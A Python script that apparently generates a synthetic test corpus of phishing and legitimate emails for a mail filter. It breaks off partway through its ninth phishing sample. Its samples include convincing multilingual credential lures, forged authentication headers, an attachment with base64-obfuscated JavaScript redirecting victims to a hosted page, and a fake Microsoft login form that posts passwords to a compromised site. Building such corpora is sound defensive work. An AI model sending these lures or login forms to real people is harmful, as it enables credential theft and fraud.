"""Blind set 5: 45 everyday phishing and fraud messages and 25 legitimate ones (clean and bulk).

Written blind (without reading the engine) as typical 2022-2026 phishing lands in personal and small-
organisation mailboxes. After the first scan, the four advance-fee and sextortion messages were filed
under spam/, as the other samples and the corpus file them, and three notices the writer filed as
bulk (not sent from a bulk service or a no-reply address) under clean/. Two of those (a bank's
no.reply.alerts@ statement notice, Microsoft's account-security-noreply@ sign-in notice) went back to
bulk/ once no-reply names behind a service's prefix counted.

Run from the repository root:

    .venv/bin/python samples/tools/build_blind5_samples.py

Writes samples/mail/{phishing,spam,clean,bulk}/b5-*.eml and samples/tools/blind5_manifest.txt.
Output is deterministic: fixed dates, identifiers derived from hashes of the slug.
"""

from __future__ import annotations

import base64
import hashlib
import sys
import urllib.parse
from datetime import datetime, timedelta, timezone
from email.header import Header
from email.utils import format_datetime
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

import files  # noqa: E402
import mime  # noqa: E402
from mime import Leaf, Multi  # noqa: E402

ROOT = HERE.parent.parent
MAIL = ROOT / "samples" / "mail"
MANIFEST = HERE / "blind5_manifest.txt"

OUT: list[tuple[str, str, bytes, str]] = []  # (folder, filename, data, description)


# --------------------------------------------------------------------------- helpers

def hx(seed: str, n: int = 16) -> str:
    return hashlib.sha256(seed.encode()).hexdigest()[:n]


def b64ish(seed: str, n: int = 40) -> str:
    raw = hashlib.sha512(seed.encode()).digest() + hashlib.sha512((seed + "2").encode()).digest()
    s = base64.b64encode(raw).decode().replace("+", "A").replace("/", "z")
    while len(s) < n:
        s += s
    return s[:n]


def alnum(seed: str, n: int = 12, upper: bool = True) -> str:
    s = "".join(c for c in b64ish(seed, n * 3) if c.isalnum())
    return (s.upper() if upper else s)[:n]


def enc(value: str) -> str:
    """RFC 2047-encode a header value when it is not ASCII."""
    try:
        value.encode("ascii")
        return value
    except UnicodeEncodeError:
        return Header(value, "utf-8").encode()


def addr(name: str, email: str) -> str:
    if not name:
        return f"<{email}>"
    try:
        name.encode("ascii")
    except UnicodeEncodeError:
        return f"{Header(name, 'utf-8').encode()} <{email}>"
    if any(c in name for c in ',.@:;()"'):
        return f'"{name}" <{email}>'
    return f"{name} <{email}>"


def when(y, mo, d, h, mi, s, off_hours=0.0):
    return datetime(y, mo, d, h, mi, s, tzinfo=timezone(timedelta(hours=off_hours)))


def fmt(dt: datetime) -> str:
    return format_datetime(dt)


# Recipient sites: the receiving provider stamps Received and Authentication-Results.
SITES = {
    "vallonet": dict(domain="vallonet.fr", mx="mx2.vallonet.fr", authserv="mx2.vallonet.fr",
                     store="imap3.vallonet.fr", style="postfix", tz=1),
    "brackwede": dict(domain="uni-brackwede.de", mx="mx01.rz.uni-brackwede.de", authserv="uni-brackwede.de",
                      store="mbox2.rz.uni-brackwede.de", style="postfix", tz=1),
    "hollister": dict(domain="hollisterkent.com", mx="hollisterkent-com.mail.protection.outlook.com",
                      authserv="spf.protection.outlook.com", store="BN8PR14MB3310.namprd14.prod.outlook.com",
                      style="m365", tz=-5),
    "okonkwo": dict(domain="okonkwo-family.net", mx="in2.hostnest.net", authserv="in2.hostnest.net",
                    store="store04.hostnest.net", style="postfix", tz=0),
    "bellandi": dict(domain="studiobellandi.it", mx="mx.studiobellandi.it", authserv="mx.studiobellandi.it",
                     store="mail.studiobellandi.it", style="postfix", tz=1),
    "santelmo": dict(domain="vetsantelmo.es", mx="mx1.vetsantelmo.es", authserv="mx1.vetsantelmo.es",
                     store="buzon.vetsantelmo.es", style="postfix", tz=1),
    "amaral": dict(domain="casa-amaral.pt", mx="mx.casa-amaral.pt", authserv="mx.casa-amaral.pt",
                   store="mail.casa-amaral.pt", style="postfix", tz=0),
    "harbour": dict(domain="harbourline.co.uk", mx="mx3.harbourline.co.uk", authserv="mx3.harbourline.co.uk",
                    store="mbx1.harbourline.co.uk", style="postfix", tz=0),
}


def received_generic(helo, rdns, ip, by, proto, qid, rcpt, dt, software="Postfix", tls=True):
    rd = rdns or "unknown"
    t = "\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits))" if tls else ""
    return (f"Received: from {helo} ({rd} [{ip}]){t}\n\tby {by} ({software}) with {proto} id {qid}\n"
            f"\tfor <{rcpt}>; {fmt(dt)}")


def dkim_sig(d, s, seed, h="from:to:subject:date:message-id"):
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d}; s={s};\n"
            f"\th={h};\n\tbh={b64ish(seed + 'bh', 43)}=;\n"
            f"\tb={b64ish(seed + 'b1', 70)}\n\t {b64ish(seed + 'b2', 70)}\n\t {b64ish(seed + 'b3', 60)}==")


def add(slug, folder, desc, *, site, rcpt, frm, subject, date, ip, helo, rdns, mailfrom, msgid, body,
        spf="pass", dkim="none", dkim_d=None, dmarc="none", dmarc_policy=None, to=None, reply_to=None,
        xmailer=None, extra=(), pre=(), dkim_sign=None, cc=None, hfrom_domain=None, delay=14):
    S = SITES[site]
    rcpt_addr = f"{rcpt}@{S['domain']}" if "@" not in rcpt else rcpt
    to = to or rcpt_addr
    local_dt = date.astimezone(timezone(timedelta(hours=S["tz"])))
    mx_dt = local_dt + timedelta(seconds=delay)
    store_dt = mx_dt + timedelta(seconds=1)
    from_email = frm[1]
    hfrom_domain = hfrom_domain or from_email.split("@")[1]
    mf_domain = mailfrom.split("@")[1] if "@" in mailfrom else mailfrom
    lines = [f"Return-Path: <{mailfrom}>", f"Delivered-To: {rcpt_addr}"]
    if S["style"] == "m365":
        auth_dkim = f"dkim={dkim} (signature was verified) header.d={dkim_d}" if dkim == "pass" else \
            (f"dkim={dkim} (body hash did not verify) header.d={dkim_d}" if dkim == "fail" else
             "dkim=none (message not signed) header.d=none")
        dmarc_action = {"pass": "action=none", "fail": "action=oreject" if dmarc_policy == "reject" else
                        "action=quarantine" if dmarc_policy == "quarantine" else "action=none",
                        "none": "action=none", "bestguesspass": "action=none"}[dmarc]
        compauth = "pass reason=100" if dmarc == "pass" else ("fail reason=000" if dmarc == "fail" else
                                                              "softpass reason=201" if spf == "pass" else
                                                              "fail reason=001")
        spf_text = {"pass": f"spf=pass (sender IP is {ip}) smtp.mailfrom={mf_domain}; ",
                    "softfail": f"spf=softfail (sender IP is {ip}) smtp.mailfrom={mf_domain}; ",
                    "fail": f"spf=fail (sender IP is {ip}) smtp.mailfrom={mf_domain}; ",
                    "none": f"spf=none (sender IP is {ip}) smtp.mailfrom={mf_domain}; ",
                    "neutral": f"spf=neutral (sender IP is {ip}) smtp.mailfrom={mf_domain}; "}[spf]
        lines.append(f"Received: from {S['mx']} (2603:10b6:408:e3::{hx(slug, 3)}) by\n\t{S['store']} with "
                     f"Microsoft SMTP Server (version=TLS1_2,\n\tcipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id "
                     f"15.20.7452.22; {fmt(store_dt)}")
        lines.append(f"Received: from {helo} ({ip}) by\n\t{S['mx']} (10.167.242.{int(hx(slug, 2), 16) % 200 + 20}) with "
                     f"Microsoft SMTP Server (version=TLS1_2,\n\tcipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id "
                     f"15.20.7452.22 via Frontend Transport; {fmt(mx_dt)}")
        lines.extend(pre)
        lines.append(f"Authentication-Results: {S['authserv']}; {spf_text}\n\t{auth_dkim};\n\t"
                     f"dmarc={dmarc} {dmarc_action} header.from={hfrom_domain};compauth={compauth}")
        spf_word = {"pass": "Pass", "softfail": "SoftFail", "fail": "Fail", "none": "None", "neutral": "Neutral"}[spf]
        lines.append(f"Received-SPF: {spf_word} ({S['authserv']}: domain of\n\t{mf_domain} "
                     f"{'designates' if spf == 'pass' else 'does not designate'} {ip} as permitted sender)\n\t"
                     f"receiver={S['authserv']}; client-ip={ip}; helo={helo};")
    else:
        qid = alnum(slug + "q", 12)
        lines.append(f"Received: from {S['mx']} ({S['mx']} [10.20.0.{int(hx(slug, 2), 16) % 50 + 5}])\n\tby "
                     f"{S['store']} (Dovecot) with LMTP id {b64ish(slug + 'l', 22)}\n\tfor <{rcpt_addr}>; "
                     f"{fmt(store_dt)}")
        lines.append(received_generic(helo, rdns, ip, S["mx"], "ESMTPS", qid, rcpt_addr, mx_dt))
        lines.extend(pre)
        parts = []
        spf_c = {"pass": f"spf=pass (domain of {mf_domain} designates {ip} as permitted sender)",
                 "softfail": f"spf=softfail (domain of transitioning {mf_domain} does not designate {ip} as permitted sender)",
                 "fail": f"spf=fail (domain of {mf_domain} does not designate {ip} as permitted sender)",
                 "none": f"spf=none (domain of {mf_domain} has no SPF policy)",
                 "neutral": f"spf=neutral (domain of {mf_domain} is neither permitted nor denied by best guess)"}[spf]
        parts.append(f"{spf_c} smtp.mailfrom={mailfrom}")
        if dkim == "none":
            parts.append("dkim=none (message not signed)")
        else:
            parts.append(f"dkim={dkim} header.d={dkim_d} header.s={(dkim_sign or ('', 'selector1'))[1]}"
                         f" header.b={b64ish(slug + 'b1', 8)}")
        pol = f" (p={dmarc_policy.upper() if dmarc_policy else 'NONE'} dis={'REJECT' if dmarc == 'fail' and dmarc_policy == 'reject' else 'QUARANTINE' if dmarc == 'fail' and dmarc_policy == 'quarantine' else 'NONE'})" \
            if dmarc in ("pass", "fail") else ""
        parts.append(f"dmarc={dmarc}{pol} header.from={hfrom_domain}")
        lines.append(f"Authentication-Results: {S['authserv']};\n\t" + ";\n\t".join(parts))
    if dkim_sign:
        lines.append(dkim_sig(dkim_sign[0], dkim_sign[1], slug))
    lines.append(f"From: {addr(*frm)}")
    lines.append(f"To: {to}")
    if cc:
        lines.append(f"Cc: {cc}")
    if reply_to:
        lines.append(f"Reply-To: {reply_to}")
    lines.append(f"Subject: {enc(subject)}")
    lines.append(f"Date: {fmt(date)}")
    lines.append(f"Message-ID: <{msgid}>")
    if xmailer:
        lines.append(xmailer if ":" in xmailer.split(" ")[0] else f"X-Mailer: {xmailer}")
    lines.extend(extra)
    data = mime.message("\n".join(lines), body)
    assert len(data) < 200_000, slug
    OUT.append((folder, f"b5-{slug}.eml", data, desc))


def text(s, subtype="plain", encoding="quoted-printable", charset="utf-8"):
    return mime.text(s.strip("\n") + "\n", subtype, encoding, charset)


def alt(slug, plain, html, enc_plain="quoted-printable", enc_html="quoted-printable"):
    return Multi("alternative", f"----=_Part_{hx(slug + 'alt', 8)}_{int(hx(slug, 6), 16)}",
                 [text(plain, "plain", enc_plain), text(html, "html", enc_html)])


def mixed(slug, first, *atts):
    return Multi("mixed", f"----=_NextPart_{hx(slug + 'mix', 4).upper()}_{hx(slug + 'm2', 4).upper()}_"
                          f"{hx(slug + 'm3', 8).upper()}", [first, *atts])


def html_only(s, encoding="quoted-printable"):
    return text(s, "html", encoding)


def phpmailer_id(slug, host):
    return f"{hx(slug + 'pm', 43)}@{host}"


PHPMAILER = "X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)"
OUTLOOK16 = "X-Mailer: Microsoft Outlook 16.0"


def button(url, label, color="#0067b8"):
    return (f'<table role="presentation" cellpadding="0" cellspacing="0" border="0"><tr>'
            f'<td bgcolor="{color}" style="padding:12px 28px;border-radius:3px;">'
            f'<a href="{url}" style="color:#ffffff;font-family:Segoe UI,Arial,sans-serif;font-size:15px;'
            f'text-decoration:none;font-weight:bold;">{label}</a></td></tr></table>')


def page(inner, width=600, bg="#f4f4f4"):
    return (f'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" '
            f'"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">\n'
            f'<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            f'<meta name="viewport" content="width=device-width, initial-scale=1"></head>\n'
            f'<body style="margin:0;padding:0;background:{bg};">\n'
            f'<table width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="{bg}"><tr><td align="center">\n'
            f'<table width="{width}" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" '
            f'style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#333333;">\n'
            f'{inner}\n</table>\n</td></tr></table>\n</body></html>')


def row(content, pad="20px 30px", extra=""):
    return f'<tr><td style="padding:{pad};{extra}">{content}</td></tr>'


# =========================================================================== PHISHING
P = "phishing"
S = "spam"  # advance-fee and sextortion: the corpus and the other samples call them spam


def phishing_admin():
    # 1 quota full, compromised WordPress link
    slug = "quota-full-vallonet"
    url = "https://www.bodegas-larrea.es/wp-includes/js/mailbox/vallonet/index.php?email=cmartinez@vallonet.fr"
    html = page(
        row('<p style="font-size:18px;color:#c00000;"><b>vallonet.fr Mailbox Storage Alert</b></p>')
        + row('<p>Dear cmartinez,</p><p>Your mailbox <b>cmartinez@vallonet.fr</b> has exceeded its storage '
              'limit of 2 GB (2.05 GB used). You will not be able to send or receive new messages until you '
              'increase your mailbox quota.</p>'
              '<table width="100%" cellpadding="0" cellspacing="0"><tr><td bgcolor="#c00000" width="98%" '
              'height="12"></td><td bgcolor="#dddddd" width="2%"></td></tr></table>'
              '<p style="font-size:12px;">2.05 GB / 2 GB</p>'
              '<p>To avoid losing incoming messages, upgrade your storage for free below:</p>'
              + button(url, "Increase Mailbox Quota", "#c00000")
              + '<p style="font-size:12px;color:#777;">Messages held: 14. Failure to upgrade within 24 hours '
                'will result in permanent loss of held messages.</p>')
        + row('<p style="font-size:11px;color:#999;">vallonet.fr Email Administrator &copy; 2024</p>'))
    plain = (f"vallonet.fr Mailbox Storage Alert\n\nDear cmartinez,\n\nYour mailbox cmartinez@vallonet.fr has "
             f"exceeded its storage limit of 2 GB.\nIncrease Mailbox Quota: {url}\n\nvallonet.fr Email Administrator")
    add(slug, P, "mailbox-quota lure impersonating the recipient's own ISP admin, sent via PHPMailer from an unrelated "
        "host, button to a compromised WordPress site (bodegas-larrea.es/wp-includes) carrying the victim's address",
        site="vallonet", rcpt="cmartinez", frm=("vallonet.fr Email Administrator", "admin@bodegas-larrea.es"),
        subject="ACTION REQUIRED: cmartinez@vallonet.fr mailbox is full (98%)",
        date=when(2024, 2, 13, 6, 41, 9), ip="185.221.182.47", helo="server.bodegas-larrea.es",
        rdns="server.bodegas-larrea.es", mailfrom="admin@bodegas-larrea.es", spf="pass", dmarc="none",
        msgid=phpmailer_id(slug, "www.bodegas-larrea.es"), xmailer=PHPMAILER,
        pre=[f"Received: by server.bodegas-larrea.es (Postfix, from userid 33)\n\tid 4TZ1sK0Q8Hz2xY; "
             f"{fmt(when(2024, 2, 13, 7, 41, 8, 1))}"],
        body=alt(slug, plain, html))

    # 2 German password expiry, pages.dev
    slug = "passwort-ablauf-uni"
    url = "https://uni-brackwede-sso-verify.pages.dev/?login=h.kessler@uni-brackwede.de"
    html = page(
        row('<p style="font-size:20px;color:#00457d;"><b>IT-Servicedesk</b> | Universit&auml;t Brackwede</p>',
            extra="border-bottom:3px solid #00457d;")
        + row('<p>Sehr geehrte/r h.kessler,</p><p>das Passwort f&uuml;r Ihr Konto <b>h.kessler@uni-brackwede.de</b> '
              'l&auml;uft heute, den 07.11.2023, ab.</p><p>Um Ihr aktuelles Passwort beizubehalten und eine '
              'Sperrung Ihres Kontos zu vermeiden, best&auml;tigen Sie es bitte &uuml;ber den folgenden Link:</p>'
              + button(url, "Aktuelles Passwort beibehalten", "#00457d")
              + '<p>Nach Ablauf der Frist werden alle Dienste (E-Mail, VPN, Moodle) gesperrt.</p>'
                '<p>Mit freundlichen Gr&uuml;&szlig;en<br>Ihr IT-Servicedesk</p>')
        + row('<p style="font-size:11px;color:#888;">Diese Nachricht wurde automatisch generiert. '
              'Bitte antworten Sie nicht darauf.</p>'))
    plain = (f"Sehr geehrte/r h.kessler,\n\ndas Passwort für Ihr Konto h.kessler@uni-brackwede.de läuft heute ab.\n"
             f"Aktuelles Passwort beibehalten: {url}\n\nIhr IT-Servicedesk")
    add(slug, P, "German password-expiry lure posing as the university IT service desk, from a webmail account at an "
        "unrelated Brazilian domain, link to a Cloudflare pages.dev page with the victim's login",
        site="brackwede", rcpt="h.kessler", frm=("IT-Servicedesk Uni Brackwede", "contato@dentalprimus.com.br"),
        subject="Passwort läuft heute ab: h.kessler@uni-brackwede.de",
        date=when(2023, 11, 7, 5, 12, 33, -3), ip="177.126.84.19", helo="mail.dentalprimus.com.br",
        rdns="mail.dentalprimus.com.br", mailfrom="contato@dentalprimus.com.br", spf="pass", dkim="pass",
        dkim_d="dentalprimus.com.br", dkim_sign=("dentalprimus.com.br", "default"), dmarc="pass",
        dmarc_policy="none", msgid=f"{hx(slug, 32)}@dentalprimus.com.br",
        xmailer="User-Agent: Roundcube Webmail/1.4.13", body=alt(slug, plain, html))

    # 3 pending messages, firebaseapp
    slug = "pending-messages-hollister"
    url = "https://mailserver-release-78d31.firebaseapp.com/#dgreene@hollisterkent.com"
    msgs = [("Payment Confirmation - INV#88213", "accounts@northbayfreight.com"),
            ("RE: Contract revision (signed)", "legal@hollisterkent.com"),
            ("Wire remittance advice", "ap@meridianfab.com"),
            ("Updated Q4 proposal", "sarah.b@coastlinehvac.com")]
    rows = "".join(f'<tr><td style="padding:6px;border-bottom:1px solid #eee;">{s}</td>'
                   f'<td style="padding:6px;border-bottom:1px solid #eee;">{f}</td>'
                   f'<td style="padding:6px;border-bottom:1px solid #eee;"><a href="{url}">Release</a></td></tr>'
                   for s, f in msgs)
    html = page(
        row('<p style="font-size:16px;"><b>hollisterkent.com</b> Mail Server</p>')
        + row('<p>Hello dgreene,</p><p>You have <b>4 pending incoming messages</b> that were not delivered to your '
              'inbox due to a system delay. Please release the messages below.</p>'
              '<table width="100%" cellpadding="0" cellspacing="0" style="font-size:13px;">'
              '<tr style="background:#eeeeee;"><th align="left" style="padding:6px;">Subject</th>'
              '<th align="left" style="padding:6px;">Sender</th><th></th></tr>' + rows + '</table><br>'
              + button(url, "Release All Messages to Inbox")
              + '<p style="font-size:12px;color:#888;">Unreleased messages will be deleted after 48 hours.</p>')
        + row('<p style="font-size:11px;color:#888;">This email was sent to dgreene@hollisterkent.com by the '
              'hollisterkent.com Mail Server.</p>'))
    plain = f"You have 4 pending incoming messages.\nRelease All Messages to Inbox: {url}\n"
    add(slug, P, "pending/held incoming messages lure in the recipient company's name, sent from a throwaway domain, "
        "every 'Release' link goes to a firebaseapp.com page with the victim's address in the fragment",
        site="hollister", rcpt="dgreene", frm=("hollisterkent.com Mail Server", "no-reply@mailsrv-notify.top"),
        subject="You have 4 pending incoming messages [dgreene@hollisterkent.com]",
        date=when(2024, 5, 21, 14, 3, 51, 0), ip="45.137.22.181", helo="mailsrv-notify.top",
        rdns="vps-2213.mailsrv-notify.top", mailfrom="bounce@mailsrv-notify.top", spf="pass", dmarc="none",
        hfrom_domain="mailsrv-notify.top",
        msgid=f"{hx(slug, 24)}@mailsrv-notify.top", body=alt(slug, plain, html))

    # 4 voicemail .htm attachment with base64 JS redirect to workers.dev
    slug = "voicemail-htm-attachment"
    target = "https://vm-audio-player.nelsonr-8f1.workers.dev/?e="
    js = base64.b64encode(target.encode()).decode()
    att = (f'<html><head><title>Voice Message</title></head><body>\n<p>Loading audio player...</p>\n'
           f'<script>\nvar _0x4a1f = "okonkwo@okonkwo-family.net";\nvar _0x9c2e = atob("{js}");\n'
           f'setTimeout(function(){{ window.location.replace(_0x9c2e + btoa(_0x4a1f)); }}, 600);\n'
           f'</script>\n</body></html>\n')
    html = page(row('<p><b>New Voice Message Received</b></p>'
                    '<table cellpadding="4" style="font-size:13px;">'
                    '<tr><td>From:</td><td>+44 7700 9XX 412</td></tr>'
                    '<tr><td>Duration:</td><td>00:00:47 sec</td></tr>'
                    '<tr><td>Received:</td><td>Tuesday, 9 January 2024</td></tr>'
                    '<tr><td>Mailbox:</td><td>okonkwo@okonkwo-family.net</td></tr></table>'
                    '<p>Please find attached the audio message. Open the attachment in your browser to play.</p>'
                    '<p style="font-size:11px;color:#888;">Voice Mail System | okonkwo-family.net</p>'))
    add(slug, P, "voicemail notification with an .htm attachment whose base64-hidden JavaScript (atob) redirects to a "
        "workers.dev page with the victim's address appended; sender domain unrelated to any phone provider",
        site="okonkwo", rcpt="okonkwo", frm=("VoiceMail Service", "voicemail@fiscalia-asesores.com"),
        subject="New Voice Message from +44 7700 9XX 412 (00:47) - okonkwo@okonkwo-family.net",
        date=when(2024, 1, 9, 11, 22, 4, 0), ip="91.215.85.143", helo="fiscalia-asesores.com",
        rdns="static.143.85.215.91.clients.your-server.de", mailfrom="voicemail@fiscalia-asesores.com",
        spf="softfail", dmarc="none", msgid=phpmailer_id(slug, "fiscalia-asesores.com"), xmailer=PHPMAILER,
        body=mixed(slug, html_only(html), mime.attachment("text/html", "VM_Playback_0047sec.htm", att.encode())))

    # 5 fax .shtml fake login page
    slug = "efax-shtml-login"
    att = ('<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Sign in to view document</title>\n'
           '<style>body{font-family:Segoe UI,Arial;background:#f2f2f2}.box{width:360px;margin:80px auto;background:#fff;'
           'padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;padding:8px;margin:8px 0}'
           'button{background:#0067b8;color:#fff;border:0;padding:10px 30px}</style></head>\n<body>\n'
           '<div class="box"><img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg" width="108">\n'
           '<h2>Sign in to view your fax document</h2>\n'
           '<form method="POST" action="https://www.tuscanyvillarentals.net/wp-admin/css/colors/fax/next.php">\n'
           '<input type="email" name="login" value="r.whitfield@harbourline.co.uk" readonly>\n'
           '<input type="password" name="passwd" placeholder="Password" required>\n'
           '<button type="submit">Sign in</button></form>\n'
           '<p style="font-size:12px">Document: Fax-Scan_8812.pdf (3 pages)</p></div>\n</body></html>\n')
    plain = ("eFax Message Notification\n\nYou have received a 3 page fax at 2024-10-02 09:14:22 GMT.\n"
             "* The reference number for this fax is lon2_did22-1727860462-4417912004-132.\n\n"
             "Please open the attached document to view your fax.\n\nThank you for using the eFax service!\n")
    add(slug, P, "fake eFax notification with an .shtml attachment that is a Microsoft-styled login form, email "
        "pre-filled, posting the password to a compromised WordPress site",
        site="harbour", rcpt="r.whitfield", frm=("eFax", "message@efax-deliveryservice.com"),
        subject="Fax Message [Caller-ID: 441132 660918] 3 pages",
        date=when(2024, 10, 2, 9, 15, 1, 0), ip="193.42.33.76", helo="efax-deliveryservice.com",
        rdns="hosted-by.rootlayer.net", mailfrom="message@efax-deliveryservice.com", spf="pass", dmarc="none",
        msgid=f"{hx(slug, 20)}.{hx(slug + 'x', 8)}@efax-deliveryservice.com",
        body=mixed(slug, text(plain), mime.attachment("text/html", "Fax-Scan_8812.shtml", att.encode())))

    # 6 verify account, ipfs
    slug = "verify-account-ipfs"
    cid = "bafybeihx3kq7n2ytzfwc4ep6dwsx5wlj3m7wrhxq6o2l4jvkf2ceiq6y4a"
    url = f"https://ipfs.io/ipfs/{cid}/index.html?filename=vallonet#p.roussel@vallonet.fr"
    plain = (f"Cher utilisateur p.roussel@vallonet.fr,\n\nNous avons détecté une activité inhabituelle sur votre "
             f"compte de messagerie.\nPour éviter la désactivation, veuillez vérifier votre compte dans les 24 heures :\n\n"
             f"{url}\n\nSi vous ne vérifiez pas votre compte, il sera suspendu définitivement.\n\n"
             f"Support Technique Webmail\n© 2023 vallonet.fr")
    add(slug, P, "French 'verify your webmail account or it will be deactivated' lure, plain text, sent from a free "
        "mailbox, link to an ipfs.io gateway page with the victim's address in the fragment",
        site="vallonet", rcpt="p.roussel", frm=("Support Webmail", "supportwebmail.vallonet@outlook.com"),
        subject="Vérification de compte requise - p.roussel@vallonet.fr",
        date=when(2023, 6, 28, 22, 47, 13, 0), ip="40.92.66.21", helo="EUR05-DB8-obe.outbound.protection.outlook.com",
        rdns="mail-db8eur05olkn2021.outbound.protection.outlook.com", mailfrom="supportwebmail.vallonet@outlook.com",
        spf="pass", dkim="pass", dkim_d="outlook.com", dkim_sign=("outlook.com", "selector1"), dmarc="pass",
        dmarc_policy="none", msgid=f"AM9P193MB1{alnum(slug, 6)}{alnum(slug + 'a', 24)}@AM9P193MB1{alnum(slug, 6)}.EURP193.PROD.OUTLOOK.COM",
        body=text(plain))

    # 7 French mailbox full, web.app
    slug = "boite-pleine-webapp"
    url = "https://messagerie-quota-fr.web.app/?mail=j.dubois@vallonet.fr"
    html = page(
        row('<p style="font-size:18px;color:#1a3d7c;"><b>Messagerie vallonet.fr</b></p>')
        + row('<p>Bonjour j.dubois,</p><p>Votre bo&icirc;te aux lettres est <b>pleine (99 %)</b>. Les nouveaux '
              'messages sont actuellement <b>bloqu&eacute;s</b> sur notre serveur.</p>'
              '<p>Vous avez <b>9 messages en attente</b>. Cliquez ci-dessous pour lib&eacute;rer de l\'espace '
              'et recevoir vos messages :</p>'
              + button(url, "Augmenter mon espace de stockage", "#1a3d7c")
              + '<p>Sans action de votre part sous 48 heures, les messages en attente seront supprim&eacute;s.</p>'
                '<p>Cordialement,<br>L\'&eacute;quipe Messagerie</p>'))
    plain = (f"Bonjour j.dubois,\n\nVotre boîte aux lettres est pleine (99 %). 9 messages en attente.\n"
             f"Augmenter mon espace de stockage : {url}\n\nL'équipe Messagerie")
    add(slug, P, "French 'boîte aux lettres pleine' quota lure in the ISP's name, sent from a compromised Italian "
        "business mailbox, link to a Firebase web.app page",
        site="vallonet", rcpt="j.dubois", frm=("Messagerie vallonet.fr", "info@ferramentaguidi.it"),
        subject="Votre boîte aux lettres est pleine - 9 messages en attente",
        date=when(2023, 9, 14, 8, 3, 27, 2), ip="62.149.128.163", helo="smtpdh11.ad.aruba.it",
        rdns="smtpdh11.ad.aruba.it", mailfrom="info@ferramentaguidi.it", spf="pass", dkim="pass",
        dkim_d="ferramentaguidi.it", dkim_sign=("ferramentaguidi.it", "a1"), dmarc="pass", dmarc_policy="none",
        msgid=f"{hx(slug, 32)}@ferramentaguidi.it", xmailer="User-Agent: Aruba Webmail 4.2.0",
        body=alt(slug, plain, html))

    # 8 quarantine digest, r2.dev
    slug = "quarantine-digest-r2"
    url = "https://pub-4f0c1a9be27d4c93a1d2e88b3c51f7a2.r2.dev/release.html?u=m.patel@harbourline.co.uk"
    items = [("Purchase Order PO-77120", "orders@kestrel-supplies.co.uk", "Sep 30"),
             ("Remittance Advice 30/09", "payments@barnettgroup.com", "Sep 30"),
             ("Voicemail (2) from 0161 XXX", "voice@harbourline.co.uk", "Oct 01")]
    rows = "".join(f'<tr><td style="padding:6px;">{d}</td><td style="padding:6px;">{f}</td>'
                   f'<td style="padding:6px;">{s}</td><td style="padding:6px;"><a href="{url}&a=release">Release</a> | '
                   f'<a href="{url}&a=allow">Allow sender</a></td></tr>' for s, f, d in items)
    html = page(row('<p style="font-size:18px;"><b>Quarantine Summary</b> for m.patel@harbourline.co.uk</p>')
                + row('<p>The following 3 messages are being held in quarantine. Review and release them to your '
                      'inbox.</p><table width="100%" style="font-size:12px;border:1px solid #ccc;">'
                      '<tr bgcolor="#e8e8e8"><th>Date</th><th>From</th><th>Subject</th><th>Action</th></tr>'
                      + rows + '</table>' + button(url, "Review Messages"))
                + row('<p style="font-size:11px;color:#888;">Email Protection | harbourline.co.uk IT Helpdesk</p>'))
    plain = f"Quarantine Summary for m.patel@harbourline.co.uk\n3 messages held.\nReview: {url}\n"
    add(slug, P, "fake spam-quarantine digest in the recipient organisation's IT Helpdesk name, all release links go "
        "to an R2 (r2.dev) bucket page; sender an unrelated .shop domain",
        site="harbour", rcpt="m.patel", frm=("IT Helpdesk - Email Protection", "quarantine@secure-mailgateway.shop"),
        subject="Spam Quarantine Notification: 3 new messages held for delivery",
        date=when(2024, 10, 1, 7, 58, 40, 0), ip="146.70.118.34", helo="secure-mailgateway.shop",
        rdns="146-70-118-34.static.m247.example.net".replace(".example.net", ".ro"),
        mailfrom="quarantine@secure-mailgateway.shop", spf="pass", dkim="pass",
        dkim_d="secure-mailgateway.shop", dkim_sign=("secure-mailgateway.shop", "mail"), dmarc="pass",
        dmarc_policy="none", msgid=f"{hx(slug, 28)}@secure-mailgateway.shop", body=alt(slug, plain, html))

    # 9 SharePoint share from compromised business account, netlify
    slug = "sharepoint-compromised-vendor"
    url = "https://sharepoint-docs-view-2024.netlify.app/?id=Q3-Remittance&user=dgreene@hollisterkent.com"
    html = ('<html><body style="font-family:Segoe UI,Calibri,sans-serif;font-size:14px;">\n'
            '<table width="520" cellpadding="0" cellspacing="0" style="border:1px solid #e1dfdd;">'
            '<tr><td style="padding:20px;"><p>Marcus Lee shared a file with you</p>'
            '<table cellpadding="8" style="background:#f3f2f1;width:100%;"><tr><td>'
            '<b style="font-size:16px;">&#128196; Q3-Remittance_HollisterKent.pdf</b><br>'
            '<span style="color:#605e5c;font-size:12px;">Here is the remittance for outstanding invoices, please review.'
            '</span></td></tr></table><br>' + button(url, "Open") +
            '<p style="color:#605e5c;font-size:11px;">This link will work for anyone at hollisterkent.com.</p>'
            '<p style="color:#605e5c;font-size:11px;">Microsoft respects your privacy. Read our privacy statement.</p>'
            '</td></tr></table>\n<p style="font-size:12px;">Marcus Lee<br>Accounts Payable<br>Pinecrest Dental Lab LLC'
            '<br>(614) 555-0143</p></body></html>')
    plain = f"Marcus Lee shared a file with you\nQ3-Remittance_HollisterKent.pdf\nOpen: {url}\n"
    add(slug, P, "SharePoint 'shared a file' lure sent from a genuinely compromised vendor mailbox (SPF/DKIM/DMARC all "
        "pass), but the Open button points to a netlify.app page, not sharepoint.com",
        site="hollister", rcpt="dgreene", frm=("Marcus Lee", "mlee@pinecrestdentallab.com"),
        subject="Marcus Lee shared \"Q3-Remittance_HollisterKent\" with you",
        date=when(2024, 8, 6, 16, 44, 2, -4), ip="40.107.220.93", helo="NAM11-CO1-obe.outbound.protection.outlook.com",
